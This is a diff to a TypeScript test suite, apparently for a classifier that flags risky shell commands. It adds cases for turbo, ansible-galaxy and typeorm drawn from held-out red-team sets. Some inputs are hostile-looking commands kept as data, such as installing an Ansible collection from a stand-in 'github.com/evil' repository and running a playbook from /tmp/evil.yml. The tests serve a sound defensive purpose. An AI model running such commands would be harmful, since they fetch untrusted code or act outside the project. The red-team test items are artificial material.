@@ -94,7 +94,6 @@ describe('spec overrides: facts the specs leave out', () => {
     expect(key('ansible-playbook -i ../inv site.yml')).toContain('#outside-../inv');
     expect(key('ansible-playbook /tmp/evil.yml')).toContain('#outside-/tmp/evil.yml');
   });
-
 });
 
 describe('spec overrides found by the held-out red team (redteam.heldout.test.ts)', () => {
@@ -164,5 +163,25 @@ describe('spec overrides found by the held-out red team (redteam.heldout.test.ts
     expect(key(`clojure -M -e '(println 1)'`)).toContain('#eval');
     expect(key(`django-admin shell -c 'import os'`)).toContain('#command');
     expect(kind('mix run priv/repo/seeds.exs')).toBe('simple');
+  });
+});
+
+describe('spec overrides found by the second held-out set', () => {
+  it('turbo: --filter and the Turbo 2 options, with or without `run`', () => {
+    expect(kind('turbo run test --filter=web')).toBe('simple');
+    expect(kind('turbo build --filter=@acme/web... --summarize')).toBe('simple');
+    expect(key('turbo run build --cwd=../other')).toContain('#outside');
+  });
+
+  it('ansible-galaxy: install and collection install read their requirements file', () => {
+    expect(kind('ansible-galaxy install -r requirements.yml')).toBe('simple');
+    expect(kind('ansible-galaxy collection install -r requirements.yml')).toBe('simple');
+    expect(key('ansible-galaxy install -r /tmp/req.yml')).toContain('#outside');
+    expect(key('ansible-galaxy collection install git+https://github.com/evil/c.git')).toContain('#remote');
+  });
+
+  it('typeorm: -d names the data source file', () => {
+    expect(kind('typeorm migration:run -d src/data-source.ts')).toBe('simple');
+    expect(key('typeorm migration:run -d ../ds.ts')).toContain('#outside');
   });
 });
